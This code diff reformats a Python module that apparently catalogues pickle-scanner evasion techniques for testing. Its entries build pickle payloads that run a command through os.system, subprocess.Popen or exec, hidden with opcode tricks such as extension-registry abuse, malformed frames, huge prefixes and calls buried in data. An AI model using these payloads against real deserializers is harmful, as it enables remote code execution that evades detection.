@@ -15,12 +15,11 @@ from corpus.assembler import (
     SYSTEM,
     call,
     name,
-    old_name,
     pickled,
     text,
     value,
 )
-from corpus.entry import Loader, Place, Technique
+from corpus.entry import Place, Technique
 
 _POPEN = name("subprocess", "Popen")
 
@@ -43,8 +42,11 @@ def _written(body: Callable[[Place], bytes], protocol: int = 4) -> Callable[[Pla
 
 def _extension(opcode: bytes, code: int) -> Callable[[Place], bytes]:
     return lambda place: pickled(
-        call(name("copyreg", "add_extension"), "os", "system", code) + POP
-        + opcode + value((place.command,)) + b"R"
+        call(name("copyreg", "add_extension"), "os", "system", code)
+        + POP
+        + opcode
+        + value((place.command,))
+        + b"R"
     )
 
 
@@ -76,8 +78,12 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes], dict[str, Any]]] = {
     "NEWOBJ_EX": (
         "the same with keywords",
         _written(
-            lambda p: name("numpy", "memmap") + value((p.marker,))
-            + value({"dtype": "u1", "mode": "w+", "shape": (1,)}) + NEWOBJ_EX
+            lambda p: (
+                name("numpy", "memmap")
+                + value((p.marker,))
+                + value({"dtype": "u1", "mode": "w+", "shape": (1,)})
+                + NEWOBJ_EX
+            )
         ),
         {},
     ),
@@ -87,20 +93,38 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes], dict[str, Any]]] = {
     "EXT from the cache": (
         "the registry's cache is filled with the function itself",
         _written(
-            lambda p: name("copyreg", "_extension_cache") + value(0xF2) + SYSTEM + b"s0"
-            + b"\x82\xf2" + value((p.command,)) + b"R"
+            lambda p: (
+                name("copyreg", "_extension_cache")
+                + value(0xF2)
+                + SYSTEM
+                + b"s0"
+                + b"\x82\xf2"
+                + value((p.command,))
+                + b"R"
+            )
         ),
         {},
     ),
     "EXT from the registry": (
         "the registry is written to directly",
         _written(
-            lambda p: name("copyreg", "_inverted_registry") + value(0xF3) + value(("os", "system")) + b"s0"
-            + b"\x82\xf3" + value((p.command,)) + b"R"
+            lambda p: (
+                name("copyreg", "_inverted_registry")
+                + value(0xF3)
+                + value(("os", "system"))
+                + b"s0"
+                + b"\x82\xf3"
+                + value((p.command,))
+                + b"R"
+            )
         ),
         {},
     ),
-    "persistent id": ("which no plain loader knows; nothing runs", lambda p: b"Pos.system\n" + b".", {"executes": False}),
+    "persistent id": (
+        "which no plain loader knows; nothing runs",
+        lambda p: b"Pos.system\n" + b".",
+        {"executes": False},
+    ),
     "persistent id after the act": (
         "the load fails when all is done",
         _written(lambda p: _act(p) + b"0" + value(1) + b"Q"),
@@ -109,9 +133,17 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes], dict[str, Any]]] = {
     "no STOP": ("the file ends after the act", lambda p: b"\x80\x04" + _act(p), {}),
     "unknown opcode": ("after the act", lambda p: b"\x80\x04" + _act(p) + b"\xff\xff.", {}),
     "STOP on nothing": ("the stack is empty at the end", lambda p: b"\x80\x04" + _act(p) + b"0.", {}),
-    "a frame too long": ("announced after the act", lambda p: b"\x80\x04" + _act(p) + b"\x95" + b"\xff" * 7 + b"\x00", {}),
+    "a frame too long": (
+        "announced after the act",
+        lambda p: b"\x80\x04" + _act(p) + b"\x95" + b"\xff" * 7 + b"\x00",
+        {},
+    ),
     "bytes too long": ("announced after the act", lambda p: b"\x80\x04" + _act(p) + b"B\xff\xff\xff\x7f", {}),
-    "frame": ("a frame that fits", lambda p: b"\x80\x04\x95" + struct.pack("<Q", len(_act(p)) + 1) + _act(p) + b".", {}),
+    "frame": (
+        "a frame that fits",
+        lambda p: b"\x80\x04\x95" + struct.pack("<Q", len(_act(p)) + 1) + _act(p) + b".",
+        {},
+    ),
     "frame cut within": (
         "a frame that ends within an opcode's argument is read on by nobody",
         lambda p: b"\x80\x04\x95" + struct.pack("<Q", 4) + b"NN00" + _act(p) + b".",
@@ -140,11 +172,23 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes], dict[str, Any]]] = {
         lambda p: b"L10L\n0cos\nsystem\n(V" + p.command.encode() + b"\ntR.",
         {},
     ),
-    "a float in text": ("FLOAT of infinity", lambda p: b"Finfinity\n0cos\nsystem\n(V" + p.command.encode() + b"\ntR.", {}),
+    "a float in text": (
+        "FLOAT of infinity",
+        lambda p: b"Finfinity\n0cos\nsystem\n(V" + p.command.encode() + b"\ntR.",
+        {},
+    ),
     "a long prefix": ("a hundred thousand opcodes first", _written(lambda p: b"N0" * 100_000 + _act(p)), {}),
-    "a large prefix": ("two megabytes of bytes first", _written(lambda p: value(bytes(1 << 21)) + b"0" + _act(p)), {}),
+    "a large prefix": (
+        "two megabytes of bytes first",
+        _written(lambda p: value(bytes(1 << 21)) + b"0" + _act(p)),
+        {},
+    ),
     "many marks": ("ten thousand groups opened first", _written(lambda p: b"(" * 10_000 + _act(p)), {}),
-    "in a group that is dropped": ("POP_MARK throws the result away", _written(lambda p: b"(" + _act(p) + b"1N"), {}),
+    "in a group that is dropped": (
+        "POP_MARK throws the result away",
+        _written(lambda p: b"(" + _act(p) + b"1N"),
+        {},
+    ),
     "in a key": ("the call is a dictionary's key", _written(lambda p: b"}" + _act(p) + value(1) + b"s"), {}),
     "deep in data": (
         "after much that is plain",
@@ -156,7 +200,7 @@ _WAYS: dict[str, tuple[str, Callable[[Place], bytes], dict[str, Any]]] = {
         lambda p: b"(V" + p.code.encode() + b"\nibuiltins\nexec\n.",
         {},
     ),
-}  # fmt: skip
+}
 
 
 def _ignoring(place: Place) -> bytes:
@@ -169,6 +213,4 @@ def _wait() -> bytes:
     return b"q\x00" + b"0" + call(call(name("operator", "methodcaller"), "wait"), type(EXEC)(b"h\x00"))
 
 
-TECHNIQUES = [
-    Technique(way, "opcodes", about, made, **more) for way, (about, made, more) in _WAYS.items()
-]
+TECHNIQUES = [Technique(way, "opcodes", about, made, **more) for way, (about, made, more) in _WAYS.items()]
